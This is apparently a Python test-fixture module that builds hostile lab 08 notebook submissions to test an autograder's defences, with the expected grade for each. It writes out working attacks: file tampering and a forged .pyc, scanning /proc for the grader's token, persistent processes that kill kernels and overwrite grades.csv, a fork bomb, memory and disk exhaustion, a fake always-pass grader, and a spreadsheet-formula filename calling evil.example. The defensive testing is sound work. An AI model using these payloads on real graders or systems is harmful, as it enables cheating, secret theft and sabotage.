"""A class of hostile and careless submissions of lab 08 (``labs/08_derivatives.ipynb``, the
smallest graded lab), one builder per attack class of the issue "Grading a class that may cheat".

Each notebook is lab 08's learner version with an answer between the markers (the right one
where the attack should not cost the learner the mark they earned) and the attack appended as
cells. The attacks know every path a teacher's machine would show them (:class:`Targets`: the
grader's HOME, the repository, the submissions, ``--out``), as a worst case. Every process an
attack starts carries :attr:`Targets.marker` in its command line and environment, so a test can
look for survivors. :func:`build` writes the class and returns what each file may earn.
"""
from __future__ import annotations

import functools
import json
import pathlib
from dataclasses import dataclass

from utils.notebook import ROOT, read
from utils.teacher.gradebook.submissions import find_lab, known_labs, map_exercises
from utils.teacher.learner import make_learner

__all__ = ["RIGHT", "Targets", "Expect", "learner", "with_answer", "BUILDERS", "build",
           "NO_KERNEL"]

RIGHT = "k = (f(w + eps) - f(w - eps)) / (2 * eps)"


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at: the grader's ``home``, the ``repo`` it runs from, the
    ``subs`` and ``out`` folders, the name of the ``token`` variable in its environment, and
    the ``marker`` every attack process carries."""

    home: str
    repo: str
    subs: str
    out: str
    token: str
    marker: str


@dataclass(frozen=True)
class Expect:
    """What one file may give: its attack ``kind``, the ``status`` and the points it gets (none
    where a cell could forge the records, even beside the right answer), and a regular
    expression its row's reason or message must hold."""

    kind: str
    status: str
    points: int
    pattern: str = ""


@functools.cache
def _learner() -> str:
    reference = read(ROOT / "labs/08_derivatives.ipynb")
    return json.dumps(make_learner(reference, "labs/learner/08_derivatives.ipynb"))


def learner() -> dict:
    """Lab 08's learner version (exercise blank)."""
    return json.loads(_learner())


@functools.cache
def _lab08():
    return find_lab("08", known_labs())


def with_answer(answer: str, extra_cells=(), after_def: str = "") -> dict:
    """The learner version with ``answer`` between the markers (``after_def``: lines added to
    the exercise cell after the function) and ``extra_cells`` appended."""
    nb = learner()
    cell = nb["cells"][map_exercises(nb, _lab08())[1]]
    body = "\n".join("    " + line for line in answer.split("\n"))
    cell["source"] = cell["source"].replace("    k = None", body) + after_def
    for src in extra_cells:
        nb["cells"].append({"cell_type": "code", "execution_count": None, "metadata": {},
                            "outputs": [], "source": src})
    return nb


_REPORT = '''\
import json, os, pathlib
T = json.loads({targets!r})
report = {{}}
def attempt(name, action):
    try:
        action()
        report[name] = "done"
    except Exception as exc:
        report[name] = type(exc).__name__
'''

FILES = _REPORT + '''\
def write(*parts, text="pwned"):
    pathlib.Path(*parts).write_text(text)
def forge_pyc():
    import importlib.util, py_compile, tempfile
    real = pathlib.Path(T["repo"], "utils", "labs", "lab08", "checks.py")
    fake = pathlib.Path(tempfile.mkdtemp(), "checks.py")
    src = "class _G:\\n    def feedback(self, n): ...\\ngrader = _G()\\n"
    fake.write_text(src + "#" * max(0, real.stat().st_size - len(src) - 1) + "\\n")
    os.utime(fake, ns=(real.stat().st_atime_ns, real.stat().st_mtime_ns))
    py_compile.compile(str(fake), cfile=importlib.util.cache_from_source(str(real)))
attempt("home: overwrite a file", lambda: write(T["home"], "canary.txt"))
attempt("home: a new file", lambda: write(T["home"], ".pwned"))
attempt("home: 200 MB outside", lambda: write(T["home"], "big", text="0" * 200_000_000))
attempt("repository: overwrite a file", lambda: write(T["repo"], "canary.txt"))
attempt("repository: sitecustomize.py", lambda: write(T["repo"], "sitecustomize.py"))
attempt("repository: utils/sitecustomize.py", lambda: write(T["repo"], "utils", "sitecustomize.py"))
attempt("repository: a forged .pyc", forge_pyc)
attempt("repository: .git", lambda: write(T["repo"], ".git", "config"))
attempt("submissions: overwrite a file", lambda: write(T["subs"], "canary.txt"))
attempt("submissions: a classmate's notebook", lambda: write(T["subs"], "right.ipynb"))
attempt("--out: grades.csv", lambda: write(T["out"], "grades.csv"))
attempt("/tmp", lambda: write("/tmp", T["marker"]))
print("FILES " + json.dumps(report))
'''

PROC = _REPORT + '''\
import glob
found = {{"token": [], "grader": [], "ppid_environ": ""}}
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    found["token"] += [item.decode(errors="replace") for item in data.split(b"\\0")
                       if item.startswith(T["token"].encode() + b"=")]
try:
    found["ppid_environ"] = open(f"/proc/{{os.getppid()}}/environ", "rb").read().decode(errors="replace")
except OSError as exc:
    found["ppid_environ"] = type(exc).__name__
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        args = [a.decode(errors="replace") for a in open(path, "rb").read().split(b"\\0") if a]
    except OSError:
        continue
    if any("grade" in a for a in args) and not any("ipykernel" in a for a in args):
        found["grader"].append(args)
        for arg in args:        # change the submissions folder, --out, the repository
            if os.path.isdir(arg):
                attempt("write into " + arg, lambda: pathlib.Path(arg, T["marker"]).write_text("x"))
print("PROC " + json.dumps({{**found, "report": report}}))
'''

PERSIST = _REPORT + '''\
import subprocess, sys
killer = """# {{marker}}
import glob, os, pathlib, signal, time
end = time.time() + 120
while time.time() < end:
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = open(path, "rb").read()
        except OSError:
            continue
        if b"ipykernel" in args and int(path.split("/")[2]) != {{kernel}}:
            try:
                os.kill(int(path.split("/")[2]), signal.SIGKILL)
            except OSError:
                pass
    for name in ("grades.csv", "feedback/right.md"):
        try:
            pathlib.Path({{out!r}}, name).write_text("pwned")
        except OSError:
            pass
    time.sleep(0.2)
""".format(marker=T["marker"], kernel=os.getpid(), out=T["out"])
env = dict(os.environ, NN_HOSTILE=T["marker"])
attempt("setsid", lambda: subprocess.Popen([sys.executable, "-c", killer], env=env,
                                           start_new_session=True, stdin=subprocess.DEVNULL,
                                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
def double_fork():
    pid = os.fork()
    if pid == 0:
        if os.fork() == 0:
            os.setsid()
            os.execve(sys.executable, [sys.executable, "-c", killer], env)
        os._exit(0)
    os.waitpid(pid, 0)
attempt("double fork", double_fork)
print("PERSIST " + json.dumps(report))
'''

RESOURCES = _REPORT + '''\
import time
def memory():
    block = bytearray(4_200_000_000)
    block[::4096] = b"x" * len(block[::4096])
def forks():
    children = []
    try:
        for _ in range(2000):
            pid = os.fork()
            if pid == 0:
                time.sleep(2)
                os._exit(0)
            children.append(pid)
    finally:
        report["forks"] = len(children)
        for pid in children:
            os.waitpid(pid, 0)
def disk(path):
    with open(path, "wb") as f:
        for _ in range(200):
            f.write(b"0" * (1 << 20))
attempt("memory: 4.2 GB in one process", memory)
attempt("processes: 2000 forks", forks)
attempt("disk: 200 MB in /tmp", lambda: disk("/tmp/big"))
attempt("disk: 200 MB in the working folder", lambda: disk("big"))
print("RESOURCES " + json.dumps(report))
'''

MEMORY = '''\
import os, time
import numpy as np
for _ in range(3):          # each process under the per-process limit, all together above
    if os.fork() == 0:
        block = np.ones(100_000_000)
        time.sleep(60)
        os._exit(0)
time.sleep(60)
'''

FLOODS = [
    '''from IPython.display import display
handle = display("a small display", display_id=True)
handle.update("U" * 20_000_000)''',
    '''from IPython.display import display
display({"text/html": "H" * 20_000_000, "text/plain": "h"}, raw=True)''',
    'print("P" * 20_000_000)',
    '"R" * 20_000_000',
]

LONG_LOG = '''\
for epoch in range(3000):       # a long training log: about 300,000 characters
    print(f"epoch {epoch:4d}: loss {1 / (epoch + 1):.6f}, accuracy {epoch / 3000:.4f}, lr 1e-3")
'''

REFERENCE = _REPORT + '''\
import sys
places = [*os.environ.get("PYTHONPATH", "").split(os.pathsep), *sys.path, T["repo"], "/course"]
for place in places:
    reference = pathlib.Path(place or ".", "labs", "08_derivatives.ipynb")
    try:
        cells = json.loads(reference.read_text())["cells"]
    except (OSError, ValueError):
        continue
    answer = next("".join(c["source"]) for c in cells if "START CODE HERE" in "".join(c["source"]))
    exec(answer, globals())
    report["found"] = str(reference)
    break
print("REFERENCE " + json.dumps(report))
'''

FAKE_UTILS = _REPORT + '''\
import sys
fake = pathlib.Path("fake")
for folder in ("utils", "utils/grading", "utils/labs", "utils/labs/lab08"):
    (fake / folder).mkdir(parents=True, exist_ok=True)
    (fake / folder / "__init__.py").write_text("")
PASS = "class _G:\\n    _errors = {{}}\\n    def feedback(self, n):\\n        class F:\\n            status, message = 'passed', f'Exercise {{n}} passed'\\n        return F()\\ngrader = _G()\\n"
(fake / "utils/labs/lab08/checks.py").write_text(PASS)
(fake / "utils/grading/record.py").write_text(
    "import json\\ndef collect(module, numbers, path, seed, scope):\\n"
    "    with open(path, 'a') as f:\\n"
    "        for n in numbers:\\n"
    "            f.write(json.dumps({{'exercise': n, 'status': 'passed', 'calls': []}}) + '\\\\n')\\n")
sys.path.insert(0, str(fake.resolve()))
for name in [m for m in sys.modules if m == "utils" or m.startswith("utils.")]:
    del sys.modules[name]
import utils
report["utils"] = utils.__file__
print("FAKEUTILS " + json.dumps(report))
'''


# A wrong answer whose records the recorder, patched, fills with the reference's results: it
# earned full marks before the grader read the learner's cells for such code.
RECORDER = '''\
import utils.grading.recorder as r, utils.labs.lab08.checks as c
class R(r.Recorder):
    def __init__(self, fn):
        super().__init__(c._reference)
r.Recorder = R
'''
_TAMPERED = r"could not verify `my_central_difference`: code cell \d+ of your notebook uses `"


def _attack(template: str, targets: Targets) -> str:
    return template.format(targets=json.dumps(targets.__dict__))


def _right(*cells) -> dict:
    return with_answer(RIGHT, cells)


BUILDERS = {
    # file name: (builder(targets) -> notebook, what it may earn)
    "right.ipynb": (lambda t: _right(), Expect("honest", "graded", 1, "all exercises passed")),
    "longlog.ipynb": (lambda t: _right(LONG_LOG), Expect("crashes", "graded", 1,
                                                         "all exercises passed")),
    # With the right answer, but cells that could forge the records: no pass (TAMPERED)
    "snoop.ipynb": (lambda t: _right(_attack(FILES, t), _attack(PROC, t)),
                    Expect("files, /proc and environment", "graded", 0, _TAMPERED + "import json")),
    "persist.ipynb": (lambda t: _right(_attack(PERSIST, t)), Expect("processes", "graded", 0,
                                                                    _TAMPERED)),
    "resources.ipynb": (lambda t: _right(_attack(RESOURCES, t)), Expect("resources", "graded",
                                                                        0, _TAMPERED)),
    "recorder.ipynb": (lambda t: with_answer("k = 0.0", [RECORDER]),
                       Expect("unearned marks", "graded", 0,
                              _TAMPERED + r"import utils\.grading\.recorder")),
    "memory.ipynb": (lambda t: _right(MEMORY), Expect("resources", "crashed", 0,
                                                      "its processes used .* MB of memory")),
    "floods.ipynb": (lambda t: with_answer("k = None", FLOODS, after_def=(
        '\nraise ValueError("E" * 20_000_000)')), Expect("outputs", "graded", 0,
                                                         "characters cut")),
    "marks.ipynb": (lambda t: with_answer("k = None", [_attack(REFERENCE, t),
                                                       _attack(FAKE_UTILS, t)]),
                    Expect("unearned marks", "graded", 0)),
}

# Files that need no kernel: {file name: (bytes or a notebook, what its row says)}.
NO_KERNEL = {
    "canary.txt": (b"a canary in the submissions folder\n", Expect("canary", "not-a-notebook",
                                                                   0, "not a notebook")),
    "malformed.ipynb": (None, Expect("crashes", "unreadable", 0,
                                     r"cell \d+ \(markdown\) has a source that is not text")),
    '=HYPERLINK("evil.example","marks").ipynb': (b"{", Expect("names", "unreadable", 0,
                                                            "not valid JSON")),
    ".hidden.ipynb": (b"{", Expect("names", "unreadable", 0, "hidden file")),
    "dup.ipynb": (b"{", Expect("names", "unreadable", 0, "same learner name")),
    "dup.IPYNB": (b"{", Expect("names", "unreadable", 0, "same learner name")),
    "dup.txt": (b"dup", Expect("names", "not-a-notebook", 0, "same learner name")),
}


def _malformed() -> dict:
    nb = learner()
    markdown = next(c for c in nb["cells"] if c["cell_type"] == "markdown")
    markdown["source"] = [1, 2, 3]
    return nb


def build(folder: pathlib.Path, targets: Targets) -> dict[str, Expect]:
    """Write the class into ``folder``; returns {file name: Expect}."""
    expected = {}
    for name, (builder, expect) in BUILDERS.items():
        (folder / name).write_text(json.dumps(builder(targets), indent=1), encoding="utf-8")
        expected[name] = expect
    for name, (content, expect) in NO_KERNEL.items():
        data = json.dumps(_malformed()).encode() if content is None else content
        (folder / name).write_bytes(data)
        expected[name] = expect
    return expected
